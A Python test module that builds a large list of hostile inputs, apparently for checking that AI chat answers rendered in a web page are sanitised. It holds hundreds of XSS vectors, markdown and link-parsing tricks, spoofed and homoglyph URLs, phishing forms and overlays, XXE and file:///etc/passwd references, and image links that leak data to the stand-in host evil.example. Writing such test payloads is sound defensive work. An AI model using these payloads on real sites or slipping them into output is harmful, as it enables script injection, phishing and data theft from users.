"""Hostile answers, by the families that are known of attacks on pages and on chats: each is text of a model.

``evil.example`` and its like are where a page must never go; what is well is in the hosts the bench allows.
"""

import itertools
import urllib.parse
from collections.abc import Iterator

_CALL = "alert(1)"
_TAGS = ("script", "img", "svg", "iframe", "body", "video", "audio", "details", "marquee", "object", "embed", "math", "form", "input",
         "button", "textarea", "select", "style", "link", "meta", "base", "template", "noscript", "xmp", "title", "plaintext", "frameset")  # fmt: skip
_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerenter",
           "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange")  # fmt: skip
_WHOLE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=https://evil.example/x.js></script>", "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<svg><script>alert&#40;1)</script>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1)>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x'/>", "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<img src=x onerror=alert(1)>", "<img src=https://evil.example/p.png>", "<img srcset='https://evil.example/p.png 1x'>",
    "<picture><source srcset=https://evil.example/a></picture>", "<video poster=https://evil.example/p><source src=//evil.example/v onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=https://evil.example></iframe>", "<object data=https://evil.example/x.swf>",
    "<embed src=https://evil.example/x>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=//evil.example/>", "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}</style>", "<div style='position:fixed;inset:0;z-index:9999'>overlay</div>",
    "<div style=\"background:url('https://evil.example')\">x</div>", "<form action=https://evil.example><input name=p><button>Entrar</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='https://evil.example' target=_top>x</a>", "<a href=//evil.example ping=//evil.example>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->", "<!DOCTYPE x [<!ENTITY a SYSTEM 'https://evil.example'>]>&a;", "<?xml-stylesheet href='https://evil.example'?>",
    "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;script&amp;gt;",
    "\\<script\\>alert(1)\\</script\\>", "<\x00script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<p id=location><p name=cookie>", "<slot onslotchange=alert(1)>",
    "<x contenteditable onblur=alert(1)>a</x>", "<dialog open style='width:100vw;height:100vh'>Sesión vencida</dialog>",
    "<span class='modal fixed-top w-100 vh-100'>x</span>", "<a class='stretched-link' href='https://evil.example'>x</a>",
    "<t t-out='1' t-att-onclick='x'/>", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<div data-oe-model=res.users>x</div>",
    "<button type=button class=o_l10n_cl_ai_source data-key=A1 onclick=alert(1)>A1</button>", "[A1\"onclick=alert(1)]", "[A1](javascript:alert(1))",
    "[A1](https://evil.example)", "[A99]<script>alert(1)</script>", "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```", "```x onload=alert(1)\n<img src=x onerror=alert(1)>", "# <img src=x onerror=alert(1)>",
    "> <iframe src=https://evil.example>", "- <script>alert(1)</script>", "1. <svg onload=alert(1)>", "|a|<script>alert(1)</script>|\n|-|-|\n|<img src=x onerror=alert(1)>|b|",
    "|a|b|\n|:-\" onload=alert(1)|-|\n|c|d|", "99999999999. <x>", "**<b onclick=alert(1)>x</b>**", "*<img src=x* onerror=alert(1)>", "~~<svg~~ onload=alert(1)>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "javascript%3Aalert(1)", "\x01javascript:alert(1)", "java\u200bscript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>", "blob:https://evil.example/1", "file:///etc/passwd", "intent://evil.example#Intent;end", "tel:+56900000000",
    "mailto:a@evil.example", "http://evil.example/", "http://sii.cl/", "https://evil.example/?q=secreto", "//evil.example/x", "///evil.example", "\\\\evil.example\\x",
    "https:/\\evil.example", "https:\\\\evil.example", "https:evil.example", "https://sii.cl@evil.example/", "https://sii.cl:pw@evil.example/", "https://evil.example\\@sii.cl/",
    "https://evil.example#@sii.cl/", "https://evil.example?.sii.cl", "https://evil.example/.sii.cl", "https://sii.cl.evil.example/", "https://xsii.cl/", "https://sii.cl:8443/",
    "https://sii.cl./", "https://xn--si-mia.cl/", "https://sii.xn--cl-0ka/", "https://ѕii.cl/", "https://ｓｉｉ.cl/", "https://sii。cl/", "https://sii.cl%2eevil.example/",
    "https://sii.cl%00.evil.example/", "https://sii.cl%40evil.example/", "https://sii.cl/%5cevil.example", "https://sii.cl//evil.example", "https://sii.cl/..//evil.example",
    "https://sii.cl/?next=https://evil.example", "https://sii.cl/?next=//evil.example", "https://sii.cl/?u=https%3A%2F%2Fevil.example", "https://sii.cl/#javascript:alert(1)",
    "https://sii.cl/ onclick=alert(1)", "https://sii.cl/\"onmouseover=alert(1)", "https://sii.cl/'><script>alert(1)</script>", "https://sii.cl/\u202ecod.exe",
    "https://127.0.0.1/", "https://2130706433/", "https://[::1]/", "https://localhost/", "/web/session/logout", "/odoo/action-1", "web?debug=1", "#menu", "?x", "ftp://sii.cl/x",
    "feed:https://sii.cl", "view-source:https://sii.cl", "wss://sii.cl/", "https://", "https:///sii.cl", " https://evil.example", "<https://evil.example>",
)  # fmt: skip
_AROUND = ("[x]({})", "![x]({})", "<{}>", "{}", "[x](<{}>)", "[![x]({})](https://evil.example)", "[x]: {}\n\n[x]", "[x][1]\n\n[1]: {} \"t\"", "| a |\n|---|\n| [x]({}) |",
           "- ![secreto]({}?d=1)", "> [x]({} \"onclick=alert(1)\")")  # fmt: skip
_UNICODE = ("\u202egnp.exe\u202c", "\u2066oculto\u2069", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "\U000e0041\U000e0042", "\ufeff<script>", "\ud800<script>",
            "\u2028<script>", "\u0085- <script>", "\x1b[31m<b>", "\u3164\u115f", "﷽" * 50, "\u00ad<scr\u00adipt>")  # fmt: skip


def payloads() -> list[str]:
    """Return them, each once, in the same order always."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from _WHOLE
    for tag, event in itertools.product(_TAGS, _EVENTS[:4]):
        yield f'<{tag} src=x href=x {event}="{_CALL}">x</{tag}>'
    for tag, event in itertools.product(("svg", "x", "body"), _EVENTS):
        yield f"texto <{tag}/{event}={_CALL} autofocus tabindex=1>"
    for around, address in itertools.product(_AROUND, _ADDRESSES):
        yield around.format(address)
    for address in _ADDRESSES[:8]:
        yield f"[x]({urllib.parse.quote(address)})"
    yield from _UNICODE
    for odd in _UNICODE:
        yield f"[{odd}](https://evil.example/{odd})"
    yield from ("[" * 5000, "**" * 5000, "> " * 5000 + "<script>", "- " * 3000 + "<img src=x onerror=alert(1)>", "|" * 3000 + "\n" + "|-" * 3000, "`" * 4001 + "<script>")
